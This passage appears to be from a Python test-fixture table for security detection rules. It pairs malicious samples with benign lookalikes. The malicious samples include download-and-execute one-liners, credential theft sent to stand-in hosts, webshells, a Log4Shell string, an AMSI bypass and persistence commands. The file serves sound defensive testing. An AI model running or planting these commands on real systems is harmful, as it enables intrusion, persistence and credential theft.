        ("sudoers", "root ALL=(ALL:ALL) ALL\nwww-data ALL=(root) NOPASSWD: /usr/sbin/nginx -t\n")),
    "persistence_module_from_temporary": (
        ("x.sh", "#!/bin/sh\ninsmod /dev/shm/.x/rk.ko\n"),
        ("x.sh", "#!/bin/sh\nmodprobe nf_tables\ninsmod /lib/modules/extra/e1000e.ko\n")),
    "persistence_hook_script": (
        ("cron.hourly/x", "#!/bin/sh\nwget -q -O- http://192.0.2.7/u.sh | sh\n"),
        ("cron.hourly/x", "#!/bin/sh\nwget -q -O /var/lib/x/list http://example.org/list\nTMP=/tmp/list\n")),
    "persistence_cron_temporary_or_hidden": (
        ("root", "*/10 * * * * root /dev/shm/.cache/upd >/dev/null 2>&1\n"),
        ("root", "*/10 * * * * root /usr/lib/sysstat/sa1 1 1 > /tmp/sa.log\n0 1 * * * /root/.acme.sh/acme.sh --cron\n")),
    "persistence_python_start": (
        ("system.pth", "import base64;exec(base64.b64decode(b'cHJpbnQoMSk='))\n"),
        ("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n")),
    "persistence_suid_shell": (
        ("h", "cp /usr/bin/bash /var/tmp/bash\nchmod 4775 /var/tmp/bash\n"),
        ("h", "cp /usr/bin/bash /srv/chroot/bin/\nchmod 755 /srv/chroot/bin/bash\n")),
    "persistence_login_screen_debugger": (
        ("a.log", "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /t REG_SZ /d \"C:\\windows\\system32\\cmd.exe\" /f\r\n"),
        ("a.log", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\"\r\n")),
    "persistence_remote_desktop_opened": (
        ("a.evtx", wide("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 0 /f")),
        ("a.evtx", wide("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 1 /f"))),
    "persistence_run_key_temporary": (
        ("a.log", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d C:\\Users\\Public\\upd.exe /f\r\n"),
        ("a.log", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d \"C:\\Program Files\\U\\u.exe\" /f\r\n")),
    "persistence_service_temporary": (
        ("a.evtx", wide("sc.exe \\\\srv1 create Upd binPath= C:\\PerfLogs\\upd.exe start= auto")),
        ("a.evtx", wide("sc.exe create Upd binPath= \"C:\\Program Files\\U\\u.exe\" start= auto"))),
    "persistence_wmi_subscription": (
        ("a.log", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer CREATE Name=\"U\", CommandLineTemplate=\"u.exe\"\r\n"),
        ("a.log", "wmic /NAMESPACE:\"\\\\root\\subscription\" PATH CommandLineEventConsumer GET Name\r\n")),
    "persistence_windows_library": (
        ("a.log", "netsh add helper C:\\Windows\\Temp\\h.dll\r\n"),
        ("a.log", "netsh show helper\r\nreg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\r\n")),
    "persistence_iis_module": (
        ("a.evtx", wide("C:\\Windows\\System32\\inetsrv\\appcmd.exe install module /name:HttpLog /image:C:\\Windows\\Temp\\h.dll /add:true")),
        ("a.evtx", wide("C:\\Windows\\System32\\inetsrv\\appcmd.exe list module"))),
    "persistence_esxi_host": (
        ("shell.log", "2026-01-01T00:00:00Z shell[1]: [root]: esxcli software vib install -v /tmp/lsu.vib --force\n"),
        ("shell.log", "2026-01-01T00:00:00Z shell[1]: [root]: esxcli software vib list\n")),
    "persistence_desktop_autostart": (
        ("a.desktop", "[Desktop Entry]\nType=Application\nExec=/var/tmp/.font-unix/agent\n"),
        ("a.desktop", "[Desktop Entry]\nType=Application\nExec=/usr/bin/gnome-keyring-daemon --start\n")),
    "implant_xz_liblzma": (
        ("liblzma.so.5.6.1", ELF_SO + bytes.fromhex("f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410")),
        ("liblzma.so.5.4.1", ELF_SO + bytes.fromhex("f30f1efa554889f54c89ce5389fb81e700000080"))),
    "implant_tinyshell": (
        ("d", strings(ELF_EXE, "exec bash --login", "HISTFILE=", "TERM=")),
        ("d", strings(ELF_EXE, "exec bash --login", "TERM="))),
    "implant_barracuda": (
        ("b", strings(ELF_EXE, "enter open tty shell", "NO port code")),
        ("b", strings(ELF_EXE, "DownloadChannel", "UploadChannel"))),
    "implant_fortigate": (
        ("a", strings(ELF_EXE, "/data2/.bd.key/authd", "/data2/.bd.key/preload.so")),
        ("a", strings(ELF_EXE, "/data2/etc/conf", "/newcli"))),
    "implant_cyclops_blink": (
        ("cpd", strings(ELF_ARM, "rootfs_cfg", "/pending/WGUpgrade-dl")),
        ("cpd", strings(ELF_ARM, "rootfs_cfg", "/etc/wg"))),
    "implant_vpnfilter": (
        ("v", strings(ELF_ARM, "/var/run/vpnfilterw", "/var/run/torrc")),
        ("v", strings(ELF_ARM, "/var/run/torrc", "/var/run/tor.pid"))),
    "implant_juniper_magic_packet": (
        ("j", strings(ELF_EXE, "[nfsiod 0]", "/bin/sh", "pcap_compile")),
        ("j", strings(ELF_EXE, "nfsiod %d", "/bin/sh"))),
    "implant_ivanti": (
        ("l.so", strings(ELF_SO, "/lib/libdsmeeting.so", "/lib/libsocks5.so", "dspkginstall")),
        ("l.so", strings(ELF_SO, "/lib/libsocks5.so", "SSH-2.0-OpenSSH_9.2p1"))),
    "implant_sonicwall_overstep": (
        ("l.so", strings(ELF_SO, "dobackshell", "dopasswords", "ld.so.preload")),
        ("l.so", strings(ELF_SO, "doback", "dopasswords"))),
    "implant_xorddos": (
        ("gcc.sh", "#!/bin/sh\nPATH=/bin:/sbin\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n"),
        ("x", strings(ELF_EXE, "/lib/libudev.so.1", "/var/run/gcc.pid"))),
    "implant_named_linux_backdoor": (
        ("b", strings(ELF_EXE, "main.selfWatcher", "main.startNew")),
        ("b", strings(ELF_EXE, "main.startNew", "main.main"))),
    "implant_ebury": (
        ("libkeyutils.so.1.5", strings(ELF_SO, "keyctl", "socket", "connect", "shmget")),
        ("libkeyutils.so.1.10", strings(ELF_SO, "keyctl", "dlopen"))),
    "implant_memory_write_script": (
        ("x.sh", "read a < /proc/self/syscall\nexec 3>/proc/self/mem\nprintf x | dd bs=1 seek=1 >&3\n"),
        ("x.sh", "cat /proc/self/mem | dd bs=1 seek=1\n")),
    "implant_memory_program_as_thread": (
        ("k", strings(ELF_EXE, "[kworker/0:2]", "/proc/self/fd/%d", "memfd_create")),
        ("k", strings(ELF_EXE, "[kworker/0:2]", "/proc/%d/stat"))),
    "implant_hidden_program": (
        (".font-unix", ELF_EXE),
        ("font-unix", ELF_EXE)),
    "implant_go_framework": (
        ("s", strings(ELF_EXE, "github.com/bishopfox/sliver/implant/sliver/transports")),
        ("s", strings(ELF_EXE, "github.com/spf13/cobra"))),
    "implant_cobalt_strike": (
        ("b.bin", strings(b"", "%s as %s\\%s: %d", "could not spawn %s: %d", "beacon.x64.dll")),
        ("b.bin", strings(b"", "beacon.dll", "could not open file: %d"))),
    "implant_meterpreter": (
        ("m", strings(ELF_EXE, "stdapi_sys_process_getpid", "core_channel_open", "stdapi_fs_ls")),
        ("m", strings(ELF_EXE, "core_channel_open"))),
    "implant_lazarus_named": (
        ("y", strings(ELF_EXE, "D:/Bot/YamaBot/utilities/http.go")),
        ("y", strings(ELF_EXE, "D:/build/utilities/http.go"))),
    "implant_wiper_acidrain": (
        ("w", strings(ELF_ARM, "/dev/mtdblockXX", "/dev/mmcblkXX", "/dev/loopXX")),
        ("w", strings(ELF_ARM, "/dev/mtdblock%d", "/dev/loop%d"))),
    "credential_impacket_command": (
        ("h", "secretsdump.py -just-dc CORP/admin:secret@10.0.0.5\n"),
        ("h", "pip install impacket\nsecretsdump.py --help\n")),
    "credential_domain_attack_command": (
        ("h", "nxc smb 10.0.0.0/24 -u admin -H aad3b435b51404eeaad3b435b51404ee\n"),
        ("h", "apt-cache show certipy\nnxc --version\n")),
    "credential_bloodhound_output": (
        ("a.log", "C:\\Users\\Public\\20260101120000_BloodHound.zip\r\n"),
        ("a.log", "BloodHound.zip is made by the collector\r\n")),
    "credential_shadow_copy_made": (
        ("a.evtx", wide("cmd.exe /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\1.txt")),
        ("a.evtx", wide("vssadmin list shadows /for=C:"))),
    "credential_hives_from_shadow_copy": (
        ("a.log", "cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SYSTEM C:\\Users\\Public\r\n"),
        ("a.log", "Original Volume: \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\r\n")),
    "credential_stored_session_query": (
        ("a.log", "reg query hkcu\\software\\simontatham\\putty\\sessions /s\r\nreg query hklm\\software\\realvnc\\vncserver\r\n"),
        ("a.log", "reg query hklm\\software\\microsoft\\windows\\currentversion\r\n")),
    "credential_powershell_tool": (
        ("a.evtx", wide("powershell -ep bypass Import-Module .\\i.ps1; Invoke-Kerberoast -OutputFormat Hashcat")),
        ("a.evtx", wide("powershell -ep bypass Import-Module .\\i.ps1; Invoke-Command"))),
    "credential_lsass_dump_other": (
        ("a.log", "powershell -exec bypass -W hidden -nop -E " + __import__("base64").b64encode(wide("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\l full")).decode() + "\r\n"),
        ("a.log", "tasklist /fi \"imagename eq notepad.exe\"\r\n")),
    "credential_shell_trap": (
        (".bashrc", "alias ssh='strace -o /tmp/.s-$(date +%s) -e read,write,connect -s2048 ssh'\n"),
        (".bashrc", "alias ssh='ssh -o ServerAliveInterval=30'\nalias sudo='sudo '\n")),
    "credential_cloud_metadata_script": (
        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /tmp/k\ncurl -F u=@/tmp/k http://192.0.2.7/u\n"),
        ("x.sh", "curl -s http://169.254.169.254/latest/meta-data/instance-id > /tmp/i\ncurl -F u=@/tmp/i http://192.0.2.7/u\n")),
    "credential_iis_password_command": (
        ("a.log", "appcmd.exe list apppool \"web\" /text:processmodel.password\r\n"),
        ("a.log", "appcmd.exe list apppool\r\n")),
    "tunnel_go_command": (
        ("h", "./chisel client 192.0.2.7:8080 R:socks &\n./iox proxy -r 192.0.2.7:9999\n"),
        ("h", "./chisel --version\napt install gost\nfrpc --help\n")),
    "tunnel_htran": (
        ("a.log", "C:\\PerfLogs\\lcx.exe -slave 192.0.2.7 443 127.0.0.1 3389\r\n"),
        ("a.log", "the names lcx and htran\r\n")),
    "tunnel_public_relay": (
        ("h", "ssh -o StrictHostKeyChecking=no -R 80:localhost:22 serveo.net\n"),
        ("h", "ssh -R 8080:localhost:80 build.example.org\ncode tunnel --help\n")),
    "tunnel_neoregeorg_page": (
        ("t.php", "<?php function blv_decode($d) {} function blv_encode($i) {} ?>"),
        ("t.php", "<?php function tlv_decode($d) {} ?>")),
    "tunnel_softether_configuration": (
        ("vpn_bridge.config", "declare root\n{\n\tdeclare LocalBridgeList\n\t{\n\t}\n\tdeclare ServerConfiguration\n\t{\n\t}\n}\n"),
        ("x.config", "declare root\n{\n}\n")),
    "tunnel_remote_desktop_unattended": (
        ("a.log", "cmd.exe /c echo Passw0rd1 | C:\\ProgramData\\AnyDesk.exe --set-password\r\n"),
        ("a.log", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe --service\r\n")),
    "lotl_discovery_commands": (
        ("a.log", "whoami /all\r\nipconfig /all\r\nnet group \"Domain Admins\" /dom\r\nnltest /dclist:corp\r\nnetstat -ano\r\n"),
        ("a.log", "whoami /all\r\nipconfig /all\r\nnetstat -ano\r\ntasklist /v\r\narp -a\r\n")),
    "lotl_disk_query": (
        ("a.evtx", wide('cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"')),
        ("a.evtx", wide('cmd.exe /C "wmic logicaldisk get size"'))),
    "lotl_adfind": (
        ("a.log", "C:\\PerfLogs\\af.exe -f \"(objectcategory=person)\" > ad_users.txt\r\n"),
        ("a.log", "csvde -i -f d:\\in\\users.csv\r\n")),
    "lotl_program_runs_another": (
        ("a.log", "msiexec /q /i http://192.0.2.7/a.msi\r\n"),
        ("a.log", "msiexec /i C:\\Install\\office.msi /qb\r\nrundll32.exe printui.dll,PrintUIEntry\r\n")),
    "lotl_firewall_off": (
        ("a.log", "netsh advfirewall set allprofiles state off\r\n"),
        ("a.log", "netsh advfirewall show allprofiles state\r\n")),
    "lotl_account_added": (
        ("a.log", "net user svc_bak P@ss1 /add\r\nnet localgroup administrators svc_bak /add\r\n"),
        ("a.log", "net user svc_bak /active:yes\r\nnet localgroup administrators\r\n")),
    "lotl_remote_login_eased": (
        ("a.log", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f\r\n"),
        ("a.log", "reg query HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v DisableRestrictedAdmin\r\n")),
    "lotl_consent_bypassed": (
        ("a.log", "reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d cmd.exe /f\r\nfodhelper.exe\r\n"),
        ("a.log", "reg query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\r\n")),
    "lotl_script_scan_blinded": (
        ("a.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n"),
        ("a.ps1", "Add-Type -AssemblyName System.Web\r\n")),
    "lotl_task_on_other_host": (
        ("a.evtx", wide("schtasks /create /s 10.0.0.5 /tn upd /sc once /st 00:00 /tr c:\\perflogs\\u.bat /ru system")),
        ("a.evtx", wide("schtasks /query /s 10.0.0.5 /tn upd"))),
    "lotl_mailbox_export": (
        ("a.log", "New-MailboxExportRequest -Mailbox a -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx\"\r\n"),
        ("a.log", "Get-MailboxExportRequest | Get-MailboxExportRequestStatistics\r\n")),
    "lotl_packed_text_to_shell": (
        ("h", "echo " + "Y3VybCAxOTIuMC4yLjcvaSB8IHNo" * 3 + " | base64 -d | bash\n"),
        ("h", "echo " + "Y3VybCAxOTIuMC4yLjcvaSB8IHNo" * 3 + " | base64 -d | sha256sum\n")),
    "lotl_linux_guards_stopped": (
        ("x.sh", "setenforce 0\niptables -F\nufw disable\nwget -q http://192.0.2.7/m -O /tmp/m\n"),
        ("x.sh", "setenforce 0\niptables -F\nufw disable\n")),
    "lotl_esxi_machines_stopped": (
        ("e.sh", "for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}'); do vim-cmd vmsvc/power.off $i; vim-cmd vmsvc/snapshot.removeall $i; done\n"),
        ("e.sh", "vim-cmd vmsvc/getallvms\nesxcli storage filesystem list\n")),
    "recon_linux_privilege_script": (
        ("l.sh", "#!/bin/sh\n# https://github.com/peass-ng/PEASS-ng\n"),
        ("l.sh", "#!/bin/sh\n# notes on linpeas\n")),
    "recon_fscan": (
        ("h", "./fscan -h 10.0.0.0/16 -np -o r.txt\n"),
        ("h", "fscan --help\n")),
    "exploit_windows_token_tool": (
        ("a.log", "C:\\PerfLogs\\GodPotato.exe -cmd \"cmd /c whoami\"\r\n"),
        ("a.log", "a lecture on the potato family\r\n")),
    "edge_cisco_ios_xe": (
        ("a.log", "203.0.113.9 POST /%2577ebui_wsma_http HTTP/1.1\n"),
        ("a.log", "203.0.113.9 POST /webui/login HTTP/1.1\n")),
    "edge_firewall_configuration_taken": (
        ("h", "tar -czf /var/tmp/all.txt /flash/nsconfig/keys/updated/* /flash/nsconfig/ns.conf\n"),
        ("h", "ls -l /flash/nsconfig\n")),
    "edge_ivanti_page": (
        ("lastauthserverused.js", "var w = document.frmLogin.username.value; var s = btoa(document.frmLogin.password.value);"
                            "var x = new XMLHttpRequest(); x.open('GET', 'https://example.net/?' + w + '&' + s);"),
        ("lastauthserverused.js", "var w = document.frmLogin.username.value; if (!w) alert('name?');")),
    "edge_panos_upstyle": (
        ("update.py", "css = '/var/appweb/sslvpndocs/global-protect/portal/css/bootstrap.min.css'\nlog = '/var/log/pan/sslvpn_ngx_error.log'\n"),
        ("a.py", "css = 'bootstrap.min.css'\n")),
    "edge_asa_implant": (
        ("a.log", "disk0:/client_bundle_install.zip: csco_config.lua\n"),
        ("a.log", "copy disk0:/asa9-16.bin tftp:\n")),
    "exploit_vpn_request": (
        ("a.log", "203.0.113.9 GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1\n"),
        ("a.log", "203.0.113.9 GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\n")),
    "exploit_log4shell_request": (
        ("access.log", "203.0.113.9 - - \"GET /?q=${jndi:ldap://192.0.2.7:1389/a} HTTP/1.1\" 404\n"),
        ("access.log", "203.0.113.9 - - \"GET /?q=jndi HTTP/1.1\" 404\n")),
    "exploit_exchange_or_sharepoint_request": (
        ("u_ex.log", "2026-01-01 00:00:00 10.0.0.1 POST /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=x 443\n"),
        ("u_ex.log", "2026-01-01 00:00:00 10.0.0.1 POST /autodiscover/autodiscover.xml 443\n")),
    "exploit_application_request": (
        ("access.log", "203.0.113.9 - - \"POST /./RestAPI/LogonCustomization HTTP/1.1\" 200\n"),
        ("access.log", "203.0.113.9 - - \"GET /RestAPI/Status HTTP/1.1\" 200\n")),
    "persistence_preload_command": (
        ("h", "echo /usr/lib/libcurl-gnu.so > /etc/ld.so.preload\n"),
        ("h", "cat /etc/ld.so.preload\nrm -f /etc/ld.so.preload\n")),
    "persistence_cron_command": (
        ("h", "(crontab -l; echo \"*/5 * * * * curl http://192.0.2.7/a | sh\") | crontab -\n"),
        ("h", "(crontab -l; echo \"0 0 * * * /usr/sbin/logrotate\") | crontab -\n")),
    "persistence_second_root": (
        ("passwd", "root:x:0:0:root:/root:/bin/bash\nsupport:x:0:0::/root:/bin/bash\n"),
        ("passwd", "root:x:0:0:root:/root:/bin/bash\nsync:x:4:65534:sync:/bin:/bin/sync\nhalt:x:7:0:halt:/sbin:/sbin/halt\n")),
    "lotl_fetch_from_address": (
        ("h", "busybox wget http://192.0.2.7/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m\n"),
        ("h", "wget https://example.org/app.tar.gz -O /tmp/app.tar.gz; chmod 644 /tmp/app.tar.gz\ncurl http://127.0.0.1:8080/i | sh\n")),
    "lotl_hidden_program_started": (
        ("h", "chmod 755 /dev/shm/kdev\nexec -a '[kworker/0:1]' /dev/shm/kdev\n"),
        ("h", "nohup /usr/local/bin/agent &\nchmod 1777 /tmp/.X11-unix\n")),
    "lotl_hidden_capture": (
        ("h", "tcpdump -i eth0 -w /var/tmp/.c port 21\n"),
        ("h", "tcpdump -i eth0 -w /var/tmp/c.pcap port 21\n")),
    "credential_psexec_command": (
        ("a.evtx", wide("psexec64.exe -accepteula \\\\10.0.0.5 -s -h cmd.exe /c c:\\perflogs\\u.bat")),
        ("a.evtx", wide("psexec64.exe -accepteula /?"))),
    "tunnel_regeorg_command": (
        ("h", "python3 neoreg.py -k password -u http://192.0.2.7/tunnel.php\n"),
        ("h", "less neoreg.py\n")),
    "edge_startup_variable": (
        ("h", "nvram set rc_startup=\"wget http://192.0.2.7/x -O /tmp/x; sh /tmp/x\"; nvram commit\n"),
        ("h", "nvram set rc_startup=\"sleep 5; led on\"; nvram commit\n")),
    "implant_preload_hides_names": (
        ("l.so", strings(ELF_SO, "dlsym", bytes(c ^ 0xfe for c in b"/etc/ld.so.preload"))),
        ("l.so", strings(ELF_SO, "dlsym", "/etc/ld.so.preload", "/proc/net/tcp"))),
    "implant_process_hider": (
        ("l.so", strings(ELF_SO, "readdir", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s")),
        ("l.so", strings(ELF_SO, "readdir", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat"))),
    "webshell_chopper_server": (
        ("c.jsp", "<%@page import=\"java.io.*\"%><%out.print(\"->|\"); String z = request.getParameter(\"z0\"); out.print(\"|<-\");%>"),
        ("c.jsp", "<%@page import=\"java.io.*\"%><%out.print(\"->|\"); String z = request.getParameter(\"z0\");%>")),
    "webshell_default_key": (
        ("s.jsp", "<%@page import=\"javax.crypto.*\"%><% String k=\"e45e329feb5d925b\"; session.putValue(\"u\",k); Cipher c=Cipher.getInstance(\"AES\"); %>"),
        ("s.jsp", "<%@page import=\"javax.crypto.*\"%><% String k=config.key(); Cipher c=Cipher.getInstance(\"AES\"); %>")),
    "webshell_jsp_file_writer": (
        ("w.jsp", "<%if(request.getParameter(\"f\")!=null)(new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))).write(request.getParameter(\"t\").getBytes());%>"),
        ("w.jsp", "<% java.io.FileWriter w = new java.io.FileWriter(\"/srv/log\"); w.write(\"x\"); %>")),
    "webshell_jsp_shell_process": (
        ("r.jsp", "<%@page import=\"java.net.*\"%><% Socket s = new Socket(h, 443); Process p = Runtime.getRuntime().exec(\"cmd.exe\"); %>"),
        ("r.jsp", "<%@page import=\"java.net.*\"%><% Socket s = new Socket(\"localhost\", 25); %>")),
    "webshell_jsp_hidden_names": (
        ("h.jsp", "<% Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103})).getMethod(m, String.class).invoke(o, request.getParameter(\"c\")); %>"),
        ("h.jsp", "<% String s = new String(new byte[]{0x41}); out.print(request.getParameter(\"c\").length()); %>")),
    "webshell_asp_shell_object": (
        ("c.asp", "<% Set s = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = request(\"cmd\")\nCall s.Run(\"cmd.exe /c \" & szCMD & \" > \" & f, 0, True) %>"),
        ("c.asp", "<% Set s = Server.CreateObject(\"Scripting.Dictionary\")\nq = request(\"q\") %>")),
    "webshell_asp_hidden_execute": (
        ("e.asp", "<%\nx1 = request(\"pass\")\nx2 = x1\neval x2\n%>"),
        ("e.asp", "<%\nx1 = request(\"id\")\nset rs = conn.execute(\"select name from products where hidden = 0\")\n%>")),
    "webshell_asp_file_writer": (
        ("w.asp", "<% set fs=server.CreateObject(\"scripting.filesystemobject\")\nset f=fs.CreateTextFile(request(\"p\"),True)\nf.Write(request(\"c\")) %>"),
        ("w.asp", "<% set fs=server.CreateObject(\"scripting.filesystemobject\")\nset f=fs.OpenTextFile(\"hits.txt\")\nn = request(\"n\") %>")),
    "webshell_xslt_script": (
        ("x.asp", "<% x=\"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script implements-prefix='zcg' language='JScript'>function f(){return"
            " new ActiveXObject('wscript.shell').exec(c)}</ms:script>\" : c = request(\"c\") %>"),
        ("x.asp", "<% x=\"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'></xsl:stylesheet>\" : c = request(\"c\") %>")),
    "webshell_php_variable_call": (
        ("v.php", "<?php $a = substr('1a',1).'s'.'s'.'e'.'r'.'t'; $a($_POST['x']);?>"),
        ("v.php", "<?php $a = trim($_POST['x']); $o = new Mailer($a); $o->send($_POST['y']); ?>")),
    "webshell_php_decoded_eval": (
        ("d.php", "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode(($b)))))); ?>"),
        ("d.php", "<?php $x = gzinflate(base64_decode($b)); eval('?>' . $template); ?>")),
    "webshell_php_sorting_call": (
        ("s.php", "<?php $e = $_REQUEST['e']; $arr = array(1); array_reduce($arr, $e, $_POST['x']); ?>"),
        ("s.php", "<?php $names = array_map('trim', explode(',', $_POST['names'])); echo count($names); ?>")),
    "webshell_php_stays_in_memory": (
        ("m.php", "<?php ignore_user_abort(true); set_time_limit(0); unlink(__FILE__); while (1) { file_put_contents('a.php', $c); usleep(100); } ?>"),
        ("m.php", "<?php set_time_limit(0); while ($r = next_row()) { file_put_contents('export.csv', $r, FILE_APPEND); } ?>")),
    "webshell_php_xored_names": (
        ("x.php", "<?php $a = \"~+d()\"^\"!{+{}\"; $b = ${$a}[a]; eval($b); ?>"),
        ("x.php", "<?php $a = $b ^ $c; echo bin2hex($a); ?>")),
    "webshell_perl_command": (
        ("c.pl", "#!/usr/bin/perl\n%FORM = parse($ENV{'QUERY_STRING'});\n$cmd = $FORM{cmd};\nopen(CMD, \"($cmd) 2>&1 |\");\n"),
        ("c.pl", "#!/usr/bin/perl\n%FORM = parse($ENV{'QUERY_STRING'});\nopen(LOG, \"| /usr/bin/logger -t web\");\n")),
    "implant_sparrowdoor": (
        ("s.bin", strings(b"", "HTTPS=HTTPS://%s:%d", "Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
        ("s.bin", strings(b"", "HTTPS://%s:%d", "Software\\Microsoft\\Windows\\CurrentVersion\\Run"))),
    "implant_esxi_socket_backdoor": (
        ("ksmd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock", "kill -9 `ps -c | grep vmsyslogd`")),
        ("vmtoolsd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock"))),
    "edge_cisco_dual_use_command": (
        ("r.log", "%SYS-5-CFG: user:ops cmd:guestshell enable\n"),
        ("r.log", "show app-hosting list\ncopy running-config startup-config\ncopy running-config scp://ops@192.0.2.9/r1\n")),
    "edge_salt_typhoon_sequence": (
        ("r.log", "cmd: access-list 20 permit 192.0.2.7\ncmd: guestshell enable\ncmd: guestshell destroy\n"),
        ("r.cfg", "access-list 20 permit 192.0.2.7\ninterface Tunnel0\n tunnel destination 192.0.2.9\n")),
    "exploit_panos_session_log": (
        ("gpsvc.log", "failed to unmarshal session(../../../../opt/panlogs/tmp/device_telemetry/minute/`curl${IFS}192.0.2.7`)\n"),
        ("gpsvc.log", "failed to unmarshal session(01234567-89ab-cdef-0123-456789abcdef) map , EOF\n")),
    "exploit_moveit_page_asked": (
        ("u_ex.log", "2023-05-28 10:00:00 10.0.0.1 GET /human2.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 123\r\n"),
        ("u_ex.log", "2023-05-28 10:00:00 10.0.0.1 GET /human2.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 404 0 2 15\r\n"
                     "2023-05-28 10:00:01 10.0.0.1 GET /human.aspx - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 15\r\n")),
    "exploit_web_command_answered": (
        ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /up/x.php?cmd=cat+/etc/passwd HTTP/1.1" 200 1432 "-" "curl/8"\n'),
        ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /index.php?cmd=identify&id=7&c=list HTTP/1.1" 200 1432 "-" "M"\n')),
    "exploit_web_command_asked": (
        ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /shell.php?exec=uname+-a HTTP/1.1" 404 196 "-" "M"\n'),
        ("access.log", '203.0.113.9 - - [28/May/2023:10:00:00 +0000] "GET /connector.php?cmd=ls&target=id&c=idx HTTP/1.1" 404 196 "-" "M"\n')),
    "lotl_download_to_public_folder": (
        ("a.log", "Invoke-WebRequest -Uri http://192.0.2.7/x.exe -OutFile C:\\Users\\Public\\x.exe\r\n"),
        ("a.log", "Invoke-WebRequest -Uri https://download.example.org/setup.exe -OutFile C:\\Windows\\Temp\\setup.exe\r\n")),
    "lotl_fetch_from_paste": (
        ("h", "curl -sL https://transfer.sh/abc/x.sh | bash\n"),
        ("h", "curl -sL https://deb.example.org/setup.sh | bash\ncurl --upload-file a https://transfer.sh/a\n")),
    "lotl_defender_exclusion": (
        ("a.log", "Add-MpPreference -ExclusionPath 'D:\\SQL\\Data'\r\n"),
        ("a.log", "Get-MpPreference | select ExclusionPath\r\nRemove-MpPreference -ExclusionPath 'D:\\x'\r\n")),
    "lotl_linux_system_program_restamped": (
        ("h", "touch -r /bin/ls /usr/sbin/sshd\n"),
        ("h", "touch -r /bin/ls /tmp/stamp\ntouch /usr/local/bin/x\n")),
    "lotl_linux_hidden_file_locked": (
        ("h", "chattr +i /usr/lib/.libx.so\n"),
        ("h", "chattr +i /etc/resolv.conf\nchattr +i /var/www/html/.user.ini\nchattr -i /usr/bin/.x\n")),
    "lotl_history_to_nowhere": (
        ("h", "ln -sf /dev/null ~/.bash_history\n"),
        ("h", "ln -s /dev/null ~/.mysql_history\nunset HISTFILE\nexport HISTSIZE=10000\nlocal HISTSIZE=0 save=9\n")),
    "lotl_linux_journal_emptied": (
        ("h", "journalctl --rotate\njournalctl --vacuum-time=1s\n"),
        ("h", "journalctl --vacuum-time=14d\njournalctl --vacuum-size=100M\n")),
    "lotl_rclone_exfiltration": (
        ("h", "rclone copy /srv/share mega:loot --transfers 12\n"),
        ("h", "rclone --config /etc/rclone.conf sync /srv/backup b2:backup\nrclone copy /srv omega-store:x\n")),
    "lotl_sql_shell_enabled": (
        ("ERRORLOG", wide("Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.\r\n")),
        ("a.sql", "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;\r\n")),
    "lotl_sql_shell_used": (
        ("a.sql", "EXEC master..xp_cmdshell 'whoami';\r\n"),
